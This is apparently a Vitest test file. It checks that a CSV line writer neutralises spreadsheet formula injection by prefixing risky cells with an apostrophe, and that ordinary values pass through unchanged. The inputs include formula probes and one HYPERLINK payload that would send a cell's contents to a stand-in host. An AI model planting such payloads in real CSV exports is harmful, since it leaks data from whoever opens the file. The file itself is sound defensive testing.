import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvLine } from './csv';

const read = (text: string): string => (parse(csvLine([text, 'end'])) as string[][])[0]![0]!;

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("https://elsewhere.example?"&A1,"here")',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u200b=1',
  '\ufeff=1',
  '\u202e=1',
  '＝1+1',
  '－2',
  '-5;=1',
  '+49 30 1234',
])('%j is no formula', (text) => expect(read(text)).toBe(`'${text}`));

test.each([
  '-5',
  '+5',
  '-5.25',
  '0',
  'plain',
  'a=b',
  '2026-03-01',
  'x@y.example',
  '',
  '"quoted"',
  'a,b',
  'two\nlines',
  '中文',
])('%j stays as it is', (text) => expect(read(text)).toBe(text));
